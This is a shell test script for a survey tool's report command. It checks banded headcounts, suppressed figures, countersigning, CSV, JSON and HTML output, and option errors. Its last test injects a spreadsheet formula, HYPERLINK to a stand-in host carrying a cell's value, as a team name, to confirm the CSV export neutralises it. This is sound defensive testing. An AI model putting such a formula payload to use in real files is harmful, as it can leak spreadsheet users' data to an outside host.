#!/bin/bash
# officer report, over real offices and folders: what both parties see of windows that they opened, in the terminal, as JSON, CSV and a page;
# what is not opened, not countersigned, too small or asked for in the wrong way.
cd "$(dirname "$0")/../.." || exit 1
. tests/tap.sh
. tests/cli/client.sh
. tests/cli/officer.sh
make_offices

# opened TEAM FIRST_WEEK...: from contributions to the countersigned sums
opened() {
	local team=$1 first; shift
	for first; do
		for week in 0 1 2 3; do adversary send "$team" 0 12 $((first + week)) >/dev/null; done
		officer a lead "$team" "$first-4" >/dev/null 2>&1 && officer b assist "$team" "$first-4" >/dev/null 2>&1 &&
			officer a finish "$team" "$first-4" >/dev/null 2>&1 && officer b assist "$team" "$first-4" >/dev/null 2>&1
		is "$team, window $first-4 is opened" "$?" 0
	done
}
quietly() { run officer "$@"; err=$(printf '%s\n' "$err" | grep -v 'made for tests'); }
field() { python3 -c 'import json, sys; print(eval(sys.argv[2], {}, {"report": json.loads(sys.argv[1])}))' "$out" "$1" 2>&1; }
refuses() { # NAME REGEX WORDS...
	local name=$1 regex=$2; shift 2
	quietly a report "$@"
	is "$name: wrong usage" "$code$out" 2
	like "$name: says why" "$err" "$regex"
}

quietly a report
is "without a team there is nothing to show" "$code$out" 6
adversary cohort Billing 24 247 >/dev/null
quietly a report
is "nor before a window was opened" "$code$out" 6
like "which says what comes first" "$err" "no window was opened yet; .*'evenkeel officer lead'"

opened Billing 2964 2968
adversary cohort "Night shift" 12 247 >/dev/null
opened "Night shift" 2968
adversary cohort Returns 12 247 >/dev/null

quietly a report
is "the report" "$code$err" 0
printf "%s\n" "$out" >"$dir/page"; mine=$out
like "names each team" "$out" '^Billing$'
like "a band of people, and no number" "$out" '^People +10-14; '
like "how many of the members that is" "$out" '^People +10-14; half to three quarters of the members took part$'
like "a share with its noise, or why there is none" "$out" '^  uneasy with silence +(few|nearly all|[█▓░ ]+[0-9]+ ± [0-9])'
like "what everyone was told" "$(tr -s '\n ' ' ' <"$dir/page")" "Wellbeing Office gets one half, Works Council the other; .* Only sums of 10 people or more"
like "how to read it" "$out" '^How to read it$'
like "the teams together" "$out" '^All teams together, windows of 4 weeks$'
like "without the one that opened nothing" "$out" '^Missing +Returns$'
unlike "no exact counts of people, members or reports" "$(sed '/^How to read it/,$d' "$dir/page" | sed -E 's/[0-9]+ (January|November|December|October)//g; s/10-14|20-29//g')" '(^|[^0-9.])(12|24|48|36)([^0-9]|$)'
check "80 columns at most" test "$(wc -L <"$dir/page")" -le 80

quietly b report
is "the second party sees the same" "$code$out" "0$mine"

quietly a report --json
is "as JSON" "$code $(field '[team["cohort"] for team in report["cohorts"]]')" "0 ['Billing', 'Night shift', 'Returns']"
is "its windows" "$(field '[(w["window"], w["people"], w["countersigned"], w["suppressed"]) for w in report["cohorts"][0]["windows"]]')" \
	"[('2964-4', '10-14', True, None), ('2968-4', '10-14', True, None)]"
is "one that was not opened" "$(field '[(w["people"], w["countersigned"], w["suppressed"]) for w in report["cohorts"][2]["windows"]]')" \
	"[(None, None, 'below floor'), (None, None, 'below floor')]"
is "every withheld figure is null, with its reason" "$(field 'all((f["value"] is None) == (f["suppressed"] is not None) for t in report["cohorts"] + report["together"] for w in t["windows"] for f in w["figures"])')" True
is "two windows have a direction" "$(field 'all(t["direction"] in ("too early to say", "no clear change", "higher", "lower") for t in report["cohorts"][0]["trends"]) and len(report["cohorts"][0]["trends"]) > 28')" True
is "the roll-up names what is missing" "$(field '[w["missing"] for w in report["together"][0]["windows"]]')" \
	"[['Billing', 'Night shift', 'Returns'], ['Returns']]"
like "the caution" "$(field 'report["cohorts"][0]["caution"]')" "What was sent can't be called back"
quietly a report --csv
is "as a table" "$code $(printf '%s\n' "$out" | head -1)" "0 cohort,window,item,value,margin,suppressed"
like "with bands" "$out" '^Billing,2968-4,people,10-14,,$'
like "and reasons" "$out" '^Returns,2968-4,stress.mean,,,below floor$'
is "six fields a line" "$(printf '%s\n' "$out" | python3 -c 'import csv, sys; print({len(row) for row in csv.reader(sys.stdin)})')" "{6}"

quietly a report --html "$dir/report.html"
like "as a page" "$code$out" "^0The teams' figures are in '$dir/report.html'. It is not sealed"
is "for its owner alone" "$(stat -c %a "$dir/report.html")" 600
like "whole, and it asks for nothing" "$(python3 tests/cli/html_check.py "$dir/report.html")" '^en 1 5 '
like "with a policy of its own" "$(cat "$dir/report.html")" "default-src 'none'; style-src 'sha256-"
for language in zh_CN th; do
	LANGUAGE=$language officer a report --html "$dir/$language.html" >/dev/null 2>&1
	like "whole in $language" "$(python3 tests/cli/html_check.py "$dir/$language.html")" "^${language/_/-} 1 5 "
	words=$(sed -e '/<style>/,/<\/style>/d' -e 's/<[^>]*>//g' "$dir/$language.html" | grep -E '(^| )(the|of|and|not|your) ')
	is "no English left in $language" "$words" ""
done

quietly a report Billing
is "one team" "$code" 0
unlike "without the others, and no sum of a choice" "$out" 'Night shift|All teams together'
quietly a report Billing "Night shift" --json
is "two that were picked make no sum" "$code $(field 'len(report["cohorts"]), len(report["together"])')" "0 (2, 0)"
quietly a report --windows 1 --json
is "the newest window only" "$(field '[w["window"] for w in report["cohorts"][0]["windows"]]')" "['2968-4']"
is "directions are told of all, though" "$(field '{t["direction"] for t in report["cohorts"][0]["trends"]} <= {"too early to say"}')" False

rm "$exchange"/*/2968-4/countersign.ekj
quietly a report --json
is "what is not countersigned is marked" "$(field 'report["cohorts"][0]["windows"][1]["countersigned"], report["together"][0]["windows"][1]["countersigned"]')" "(False, False)"
quietly a report Billing
like "in words, too" "$out" '^Checked +Not countersigned yet: Works Council has not confirmed'

refuses "two ways at once" "one of --json, --csv and --html" --json --csv
refuses "a table and a page" "one of --json, --csv and --html" --csv --html "$dir/x.html"
refuses "JSON and a page" "one of --json, --csv and --html" --json --html "$dir/x.html"
refuses "no window" "1 to 12" --windows 0
refuses "more than a quarter has" "1 to 12" --windows 13
refuses "no file" "which file" --html ''
refuses "another command's option" "does not belong to 'officer report'" --party office
is "no file came of it" "$(ls "$dir/x.html" 2>/dev/null)" ""
quietly a lead --csv
is "nor is --csv any other's" "$code" 2
quietly a report Nobody
like "a team that is not here" "$code $err" "^1 .*there is no team 'Nobody' here"

# A name that a spreadsheet would reckon with stands as text there; in JSON it is what it is.
formula='=HYPERLINK("http://x.example/"&A2;"open")'
adversary cohort "$formula" 12 247 >/dev/null
adversary cohort "-1+1" 12 247 >/dev/null
quietly a report --csv
is "no name is a formula in the table" "$code $(python3 -c 'import csv, sys
rows = list(csv.reader(sys.stdin))
print([cell for row in rows for cell in (row[0], row[3]) if cell[:1] in "=+-@" and not cell.replace(".", "").replace("-", "").isdigit() and cell],
	sorted({row[0] for row in rows if row[0].startswith(chr(39))}), any(row[2].startswith("missing") and row[3] == chr(39) + sys.argv[1] for row in rows))' "$formula" <<<"$out")" \
	"0 [] [\"'-1+1\", '\\'=HYPERLINK(\"http://x.example/\"&A2;\"open\")'] True"
quietly a report --json
is "and stays as it is for scripts" "$(field 'sorted(team["cohort"] for team in report["cohorts"])[:2]')" "['-1+1', '$formula']"
finish
